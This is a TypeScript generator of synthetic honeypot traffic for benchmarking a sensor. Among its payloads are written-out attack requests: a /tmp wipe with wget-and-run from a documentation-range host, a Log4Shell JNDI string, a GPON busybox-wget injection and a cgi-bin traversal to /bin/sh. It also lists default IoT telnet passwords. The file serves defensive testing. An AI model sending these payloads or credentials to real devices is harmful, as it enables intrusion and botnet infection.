// Events like those of an all-port sensor on the Internet, for `weir bench analysis`: 70% of connections say nothing, the rest
// are what public data of such a sensor shows (4,900 sources, 65,307 ports, 99 of 100 payloads below 328 bytes), with scans and
// brute force among them. The same seed gives the same events; made by us, no recorded bytes.

import { hash } from 'node:crypto';
import type { Micros } from '../../base/clock.ts';
import type { ProbeTarget, WeirEvent } from '../../model/event.ts';
import { derivedIdentifier } from '../../model/identifier.ts';
import type { Chunk, SessionRecord } from '../../model/session.ts';

const sources = 4900;
const ports = 65_307;
const decoys = 64;
/** Of a real sensor by volume; the rest of the ports share what is left. */
const topPorts: readonly (readonly [number, number])[] = [
  [445, 0.18],
  [5038, 0.07],
  [22, 0.06],
  [23, 0.05],
  [80, 0.04],
  [443, 0.02],
  [6379, 0.015],
  [5555, 0.01],
  [8080, 0.01],
  [3389, 0.01],
];

/** Numbers from 0 up to 1 (mulberry32): good enough for a mixture, and repeatable. */
export function chanceFrom(seed: number): () => number {
  let state = seed | 0;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

interface Payload {
  readonly protocol: string;
  readonly share: number;
  readonly make: (chance: () => number, decoy: string) => Buffer;
}

const text = (value: string): Buffer => Buffer.from(value, 'latin1');
const word = (chance: () => number, length: number): string =>
  Array.from({ length }, () => 'abcdefghijklmnopqrstuvwxyz0123456789'[Math.floor(chance() * 36)]).join('');
const bytes = (chance: () => number, length: number): Buffer =>
  Buffer.from(Array.from({ length }, () => Math.floor(chance() * 256)));
const host = (chance: () => number): string => `192.0.2.${1 + Math.floor(chance() * 250)}`;

const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  'Mozilla/5.0 zgrab/0.x',
  'Go-http-client/1.1',
  'curl/7.88.1',
  'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  'python-requests/2.31.0',
];
const paths = [
  '/',
  '/',
  '/',
  '/favicon.ico',
  '/login',
  '/.env',
  '/robots.txt',
  '/manager/html',
  '/api/v1/version',
  '/boaform/admin/formLogin',
];
const pick = <T>(chance: () => number, list: readonly T[]): T => list[Math.floor(chance() * list.length)];

const request = (line: string, chance: () => number, decoy: string, more = '', body = ''): Buffer =>
  text(
    `${line} HTTP/1.1\r\nHost: ${decoy}\r\nUser-Agent: ${pick(chance, agents)}\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n${more}Connection: close\r\n\r\n${body}`,
  );

const payloads: readonly Payload[] = [
  {
    protocol: 'tls',
    share: 0.38,
    make: (chance) =>
      Buffer.concat([
        Buffer.from('1603010101010000fd0303', 'hex'),
        bytes(chance, 32),
        Buffer.from('20', 'hex'),
        bytes(chance, 190 + Math.floor(chance() * 40)),
      ]),
  },
  { protocol: 'http', share: 0.26, make: (chance, decoy) => request(`GET ${pick(chance, paths)}`, chance, decoy) },
  {
    protocol: 'http',
    share: 0.06,
    make: (chance, decoy) =>
      pick(chance, [
        () =>
          request(
            `GET /shell?cd+/tmp;rm+-rf+*;wget+http://${host(chance)}/${word(chance, 6)};sh+/tmp/${word(chance, 4)}`,
            chance,
            decoy,
          ),
        () => request(`GET /?x=\${jndi:ldap://${host(chance)}:1389/${word(chance, 5)}}`, chance, decoy),
        () =>
          request(
            'POST /GponForm/diag_Form?images/',
            chance,
            decoy,
            'Content-Length: 90\r\n',
            `XWebPageName=diag&diag_action=ping&dest_host=\`busybox+wget+http://${host(chance)}/g\`&ipv=0`,
          ),
        () => request('POST /ws/v1/cluster/apps/new-application', chance, decoy, 'Content-Length: 0\r\n'),
        () => request('GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', chance, decoy),
      ])(),
  },
  {
    protocol: 'rdp',
    share: 0.14,
    make: (chance) =>
      Buffer.concat([
        Buffer.from('0300002b26e00000000000', 'hex'),
        text(`Cookie: mstshash=${word(chance, 8)}\r\n`),
        Buffer.from('0100080003000000', 'hex'),
      ]),
  },
  { protocol: 'socks', share: 0.03, make: () => Buffer.from('0401005014000001', 'hex') },
  { protocol: 'ssh', share: 0.04, make: () => text('SSH-2.0-Go\r\n') },
  {
    protocol: 'sip',
    share: 0.03,
    make: (chance, decoy) =>
      text(
        `OPTIONS sip:100@${decoy} SIP/2.0\r\nVia: SIP/2.0/UDP ${host(chance)}:5060;branch=z9hG4bK-${word(chance, 12)}\r\nFrom: "sip"<sip:100@1.1.1.1>;tag=${word(chance, 20)}\r\nUser-Agent: friendly-scanner\r\n\r\n`,
      ),
  },
  { protocol: 'redis', share: 0.02, make: () => text('*1\r\n$4\r\ninfo\r\n') },
  {
    protocol: 'smb',
    share: 0.03,
    make: (chance) => Buffer.concat([Buffer.from('00000085ff534d4272000000001853c8', 'hex'), bytes(chance, 117)]),
  },
  { protocol: 'unknown', share: 0.01, make: (chance) => bytes(chance, 330 + Math.floor(chance() * 1170)) },
];

export interface MixCounts {
  readonly sessions: number;
  readonly silent: number;
  readonly payloads: number;
  readonly logins: number;
  readonly probes: number;
  readonly sources: number;
  readonly payloadP99: number;
  /** Payloads and logins whose bytes were sent before. */
  readonly repeated: number;
}

/** Gives one slice of events after the other, in order of time. */
export class AnalysisMix {
  readonly #chance: () => number;
  readonly #seed: number;
  readonly #seen = new Set<string>();
  readonly #sizes: number[] = [];
  readonly #sent = new Set<number>();
  #repeated = 0;
  #events: WeirEvent[] = [];
  #number = 0;
  #at: Micros;
  #logins = 0;
  #probes = 0;
  #silent = 0;

  constructor(seed: number, start: Micros) {
    this.#chance = chanceFrom(seed);
    this.#seed = seed;
    this.#at = start;
  }

  counts(): MixCounts {
    const sizes = this.#sizes.sort((a, b) => a - b);
    const payloadCount = sizes.length;
    return {
      sessions: this.#silent + payloadCount + this.#logins,
      silent: this.#silent,
      payloads: payloadCount,
      logins: this.#logins,
      probes: this.#probes,
      sources: this.#seen.size,
      payloadP99: sizes[Math.floor(payloadCount * 0.99)] ?? 0,
      repeated: this.#repeated,
    };
  }

  /** The next so many; it keeps none of them. */
  next(count: number): readonly WeirEvent[] {
    for (let index = 0; index < count; index += 1) this.#step();
    const events = this.#events;
    this.#events = [];
    return events;
  }

  #step(): void {
    this.#number += 1;
    const chance = this.#chance;
    this.#at += Math.ceil(chance() * 200_000);
    const kind = chance();
    if (kind < 0.1) this.#probe();
    else if (kind < 0.12) this.#login();
    else if (kind < 0.72) {
      this.#silent += 1;
      this.#session(undefined, {});
    } else {
      let share = chance() * payloads.reduce((sum, one) => sum + one.share, 0);
      const payload = payloads.find((one) => {
        share -= one.share;
        return share < 0;
      });
      this.#session(payload ?? payloads[0], {});
    }
  }

  /** A few send most: the rank falls with a power of chance. */
  #source(): string {
    const rank = Math.floor(sources * this.#chance() ** 3);
    const ip = `${20 + (rank % 180)}.${(rank * 7) % 256}.${(rank >> 4) % 256}.${1 + (rank % 250)}`;
    this.#seen.add(ip);
    return ip;
  }

  #decoy = (): string => `203.0.113.${1 + Math.floor(this.#chance() * decoys)}`;

  #note(input: Buffer): void {
    const digest = Number.parseInt(hash('sha256', input, 'hex').slice(0, 12), 16);
    if (this.#sent.has(digest)) this.#repeated += 1;
    else this.#sent.add(digest);
  }

  #port(): number {
    let share = this.#chance();
    for (const [port, part] of topPorts) {
      share -= part;
      if (share < 0) return port;
    }
    return 1 + Math.floor(this.#chance() * ports);
  }

  #session(payload: Payload | undefined, facts: Partial<SessionRecord>): void {
    const chance = this.#chance;
    const start = this.#at;
    const ip = this.#decoy();
    const chunks: Chunk[] = [];
    if (payload) {
      const input = payload.make(chance, ip);
      this.#sizes.push(input.length);
      this.#note(input);
      chunks.push({ at: start + 20_000, direction: 'in', bytes: input });
    }
    const bytesIn = chunks.reduce((sum, chunk) => sum + chunk.bytes.length, 0);
    this.#events.push({
      kind: 'session',
      session: {
        id: derivedIdentifier(start, `mix ${this.#seed} ${this.#number}`),
        sequence: 0,
        start,
        end: start + 900_000,
        transport: 'tcp',
        source: { ip: this.#source(), port: 1024 + Math.floor(chance() * 60_000) },
        destination: { ip, port: this.#port() },
        sourceReliable: true,
        diversion: 'own',
        service: 'catch-all',
        persona: 'all-open',
        outcome: 'client-closed',
        bytesIn,
        bytesOut: 0,
        firstChunk: 0,
        chunks,
        truncated: false,
        ...(payload && payload.protocol !== 'unknown' && { protocol: payload.protocol }),
        ...facts,
      },
    });
  }

  #login(): void {
    const chance = this.#chance;
    this.#logins += 1;
    const userName = pick(chance, ['root', 'admin', 'guest', 'support', 'ubnt']);
    const password = pick(chance, ['123456', 'xc3511', 'vizxv', 'admin', '888888', word(chance, 6)]);
    const input = text(`${userName}\r\n${password}\r\n`);
    this.#note(input);
    this.#session(undefined, {
      source: { ip: `198.51.100.${1 + Math.floor(chance() * 20)}`, port: 1024 + Math.floor(chance() * 60_000) },
      destination: { ip: this.#decoy(), port: 23 },
      protocol: 'telnet',
      userName,
      password,
      bytesIn: input.length,
      chunks: [{ at: this.#at + 20_000, direction: 'in', bytes: input }],
    });
  }

  /** A second of a scan: over ports of one decoy, or over decoys at one port. */
  #probe(): void {
    const chance = this.#chance;
    this.#probes += 1;
    const start = this.#at;
    const vertical = chance() < 0.5;
    const first = 1 + Math.floor(chance() * 60_000);
    const decoy = this.#decoy();
    const targets = Array.from(
      { length: 1 + Math.floor(chance() ** 4 * 20) },
      (_, index): ProbeTarget => ({
        ip: vertical ? decoy : `203.0.113.${1 + ((first + index) % decoys)}`,
        port: vertical ? first + index : 1 + (first % 1000),
        transport: 'tcp',
        kind: 'half-open',
        count: 1,
      }),
    );
    this.#events.push({
      kind: 'probe',
      probe: {
        id: derivedIdentifier(start, `mix probe ${this.#seed} ${this.#number}`),
        start,
        end: start + 900_000,
        source: this.#source(),
        sourcePort: 61_000,
        diversion: 'own',
        targets,
        unlisted: 0,
        syn: { ttl: 242, ipId: 54_321, doNotFragment: false, window: 65_535, sequence: first, options: '', system: 'ZMap' },
      },
    });
  }
}
